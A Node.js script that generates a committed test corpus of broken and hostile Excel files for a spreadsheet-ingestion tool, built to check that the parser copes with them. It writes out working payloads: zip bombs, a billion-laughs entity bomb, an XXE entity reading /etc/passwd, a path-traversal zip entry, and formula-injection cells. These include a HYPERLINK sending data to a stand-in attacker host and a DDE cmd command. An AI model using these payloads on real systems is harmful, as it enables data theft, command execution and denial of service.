#!/usr/bin/env node
/**
 * Writes the corpus of bad, strange and hostile submissions under test/corpus/ (run
 * once; the files are committed). Hand-built zips where a library would refuse to make
 * them, exceljs for the rest. Same content on every run; the hand-built zips are
 * byte-for-byte identical, the exceljs-made ones differ only in their zip timestamps.
 * Usage: npm run build:cli && node scripts/make-corpus.js
 */
const { writeFileSync, mkdirSync } = require("node:fs");
const { join } = require("node:path");
const { deflateRawSync } = require("node:zlib");
const ExcelJS = require("exceljs");
const XLSX = require("@e965/xlsx");
const { columnLetters: colName } = require("../dist/core/problems");

const OUT = join(__dirname, "..", "test", "corpus");
mkdirSync(OUT, { recursive: true });

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 = (buf) => {
  let c = 0xffffffff;
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
};

/** A zip of [name, content, { declaredSize? }] entries, deflated. */
function zip(entries) {
  const locals = [];
  const centrals = [];
  let offset = 0;
  for (const [name, content, opts = {}] of entries) {
    const data = Buffer.isBuffer(content) ? content : Buffer.from(content, "utf8");
    const packed = deflateRawSync(data, { level: 9 });
    const size = opts.declaredSize ?? data.length;
    const nameBuf = Buffer.from(name, "utf8");
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(0x00210000, 10); // 1980-01-01 00:00
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(nameBuf.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(0x00210000, 12);
    central.writeUInt32LE(crc32(data), 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(nameBuf.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBuf, packed);
    centrals.push(central, nameBuf);
    offset += 30 + nameBuf.length + packed.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
/** A minimal workbook around one sheet's XML (and shared strings, when given). */
function workbook(sheetXml, { sst, extra = [], sheetOpts } = {}) {
  return zip([
    ["[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`],
    ["_rels/.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`],
    ["xl/workbook.xml", `<?xml version="1.0" encoding="UTF-8"?><workbook ${NS}><sheets><sheet name="PL1 Danh sách cơ quan" sheetId="1" r:id="rId1"/></sheets></workbook>`],
    ["xl/_rels/workbook.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>${sst ? '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>' : ""}</Relationships>`],
    ["xl/worksheets/sheet1.xml", sheetXml, sheetOpts],
    ...(sst ? [["xl/sharedStrings.xml", sst]] : []),
    ...extra,
  ]);
}

const header = `<row r="1"><c r="A1" t="inlineStr"><is><t>STT</t></is></c><c r="B1" t="inlineStr"><is><t>Tên cơ quan</t></is></c></row>`;
const agencyRow = (r, name) => `<row r="${r}"><c r="A${r}"><v>${r - 1}</v></c><c r="B${r}" t="inlineStr"><is><t>${name}</t></is></c></row>`;
const sheet = (rows) => `<?xml version="1.0" encoding="UTF-8"?><worksheet ${NS}><sheetData>${rows}</sheetData></worksheet>`;
const goodSheet = sheet(header + agencyRow(2, "Sở Y tế") + agencyRow(3, "Sở Nội vụ"));

async function exceljsFile(build) {
  const wb = new ExcelJS.Workbook();
  wb.created = wb.modified = new Date(Date.UTC(2025, 10, 15));
  build(wb);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

(async () => {
  const files = {};
  // 200 MB of spaces inside a cell: a ~200 KB file.
  const bomb = sheet(header + `<row r="2"><c r="B2" t="inlineStr"><is><t>${" ".repeat(200 * 1024 * 1024)}</t></is></c></row>`);
  files["zip-bomb.xlsx"] = workbook(bomb);
  files["zip-bomb-lying-size.xlsx"] = workbook(bomb, { sheetOpts: { declaredSize: 4096 } });
  const lol = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ""};`.repeat(10)}">`)].join("");
  files["billion-laughs.xlsx"] = workbook(sheet(header + `<row r="2"><c r="A2"><v>1</v></c><c r="B2" t="s"><v>0</v></c></row>`), {
    sst: `<?xml version="1.0"?><!DOCTYPE sst [${lol}]><sst ${NS} count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>`,
  });
  files["xxe.xlsx"] = workbook(`<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` + sheet(header + agencyRow(2, "&xxe;")).replace(/^<\?xml[^>]*>/, ""));
  files["million-rows.xlsx"] = workbook(sheet(header + agencyRow(2, "Sở Y tế") + agencyRow(1_000_000, "Dòng thứ một triệu")));
  files["16000-columns.xlsx"] = workbook(
    sheet(header + `<row r="2">${Array.from({ length: 16000 }, (_, i) => `<c r="${colName(i + 1)}2"><v>${i}</v></c>`).join("")}</row>`),
  );
  files["path-traversal.xlsx"] = workbook(goodSheet, { extra: [["../../../../tmp/kehoach-iso-pwned.txt", "pwned"]] });
  files["not-a-workbook.xlsx"] = Buffer.from("Kính gửi Sở Khoa học và Công nghệ,\nđính kèm danh sách cơ quan.\n", "utf8");
  files["truncated.xlsx"] = workbook(goodSheet).subarray(0, 300);
  // A compound-file header and nothing else: no directory to read.
  const cfb = Buffer.alloc(4096);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(cfb);
  files["broken-compound.xls"] = cfb;
  // Office's password-to-open: the package encrypted inside a compound file, beside its EncryptionInfo.
  const encrypted = XLSX.CFB.utils.cfb_new();
  XLSX.CFB.utils.cfb_add(encrypted, "/EncryptionInfo", Buffer.from([4, 0, 4, 0, 0x40, 0, 0, 0]));
  XLSX.CFB.utils.cfb_add(encrypted, "/EncryptedPackage", Buffer.alloc(2048, 0x5a));
  XLSX.CFB.utils.cfb_add(encrypted, "/\u0006DataSpaces/Version", Buffer.alloc(76));
  files["password-protected.xlsx"] = Buffer.from(XLSX.CFB.write(encrypted, { type: "buffer" }));
  // A plan saved as Excel 97-2003 (BIFF8) by SheetJS: read like any other submission.
  const legacy = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(legacy, XLSX.utils.aoa_to_sheet([
    ["STT", "Tên cơ quan", "Nhóm cơ quan", "Địa bàn", "Ghi chú"],
    [1, "Sở Y tế", "Cơ quan cấp sở, ngành", "tỉnh Đồng Tháp", ""],
    [2, "UBND xã Tân Bình", "Cơ quan cấp xã", "huyện Thanh Bình", "gửi bằng .xls"],
  ]), "PL1 Danh sách cơ quan");
  files["legacy.xls"] = Buffer.from(XLSX.write(legacy, { type: "buffer", bookType: "biff8" }));
  files["empty.xlsx"] = Buffer.alloc(0);
  files["empty-workbook.xlsx"] = await exceljsFile((wb) => wb.addWorksheet("Sheet1"));
  files["no-plan-sheets.xlsx"] = await exceljsFile((wb) => wb.addWorksheet("Bảng lương").addRows([["Họ tên", "Lương"], ["Nguyễn Văn A", 7.5]]));
  files["formula-injection.xlsx"] = await exceljsFile((wb) => {
    const ws = wb.addWorksheet("PL1 Danh sách cơ quan");
    ws.addRows([
      ["STT", "Tên cơ quan", "Nhóm cơ quan", "Địa bàn", "Ghi chú"],
      [1, '=HYPERLINK("http://tan-cong.example/?"&A1,"Sở Y tế")', "Cơ quan cấp sở, ngành", "tỉnh Đồng Tháp", '=cmd|" /C calc"!A0'],
      [2, "+SUM(1,2)", "Cơ quan cấp sở, ngành", "tỉnh Đồng Tháp", "-2+3"],
      [3, "@WEBSERVICE(\"http://x\")", "Cơ quan cấp sở, ngành", "tỉnh Đồng Tháp", ""],
    ]);
  });
  const legacyRows = (names, font) => (wb) => {
    const ws = wb.addWorksheet("PL1 Danh sách cơ quan");
    ws.addRow(["STT", "Tên cơ quan", "Địa bàn"]);
    names.forEach(([name, area], i) => {
      const row = ws.addRow([i + 1, name, area]);
      if (font) for (const c of [2, 3]) row.getCell(c).font = { name: font };
    });
  };
  files["tcvn3-vntime.xlsx"] = await exceljsFile(legacyRows([["Së Y tÕ", "tØnh §ång Th¸p"], ["UBND x· Hßa An", "Thµnh phè Cao L·nh"], ["Chi côc Thñy lîi", "tØnh §ång Th¸p"]], ".VnTime"));
  files["vni-times.xlsx"] = await exceljsFile(legacyRows([["Sôû Y teá", "tænh Ñoàng Thaùp"], ["UBND xaõ Hoøa An", "Thaønh phoá Cao Laõnh"]], "VNI-Times"));
  files["tcvn3-no-font.xlsx"] = await exceljsFile(legacyRows([["Së Néi vô", "tØnh §ång Th¸p"], ["×ÞßÐ¶·¹ þþþ", "tØnh §ång Th¸p"]], null));
  for (const [name, bytes] of Object.entries(files)) {
    writeFileSync(join(OUT, name), bytes);
    console.log(`${name}: ${bytes.length.toLocaleString("vi-VN")} byte`);
  }
})();

